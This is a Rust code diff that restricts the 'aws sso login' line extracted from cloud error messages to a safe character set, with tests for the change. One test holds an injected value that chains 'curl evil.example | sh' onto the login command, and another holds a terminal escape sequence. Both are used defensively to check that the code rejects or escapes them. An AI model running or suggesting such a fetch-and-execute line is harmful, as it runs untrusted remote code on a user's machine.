@@ -135,12 +135,15 @@ fn kind_of(kind: ErrorKind) -> Kind {
     }
 }
 
-/// The `aws sso login …` line an expired session's message names.
+/// The `aws sso login …` line an expired session's message names; nothing that a shell would take for
+/// more than that.
 fn sign_in_line(message: &str) -> Option<String> {
     let start = message.find("aws sso login")?;
     let line = message.get(start..)?;
     let end = line.find(['`', '\n']).unwrap_or(line.len());
-    line.get(..end).map(|line| line.trim_end().to_owned())
+    let line = line.get(..end)?.trim_end();
+    let plain = |c: char| c.is_alphanumeric() || " -_./@:+='".contains(c);
+    line.chars().all(plain).then(|| line.to_owned())
 }
 
 impl From<ApplyError> for Report {
@@ -182,5 +185,15 @@ mod tests {
             "the session has ended; run `aws sso login --profile acme`",
         );
         assert_eq!(Report::from(error).copy.as_deref(), Some("aws sso login --profile acme"));
+        let error = CloudError::new(ErrorKind::Expired, "x", "aws sso login --profile a; curl evil.example | sh");
+        assert_eq!(Report::from(error).copy, None);
+    }
+
+    #[test]
+    fn every_part_is_one_line() {
+        let error = CloudError::new(ErrorKind::Refused, "x", "no\nHint: \u{1b}[2J").on("a\nerror: b");
+        let report = Report::from(error).to_string();
+        assert_eq!(report.lines().count(), 3, "{report}");
+        assert!(report.contains(r"no\nHint: \u{1b}[2J") && report.contains(r"a\nerror: b"), "{report}");
     }
 }
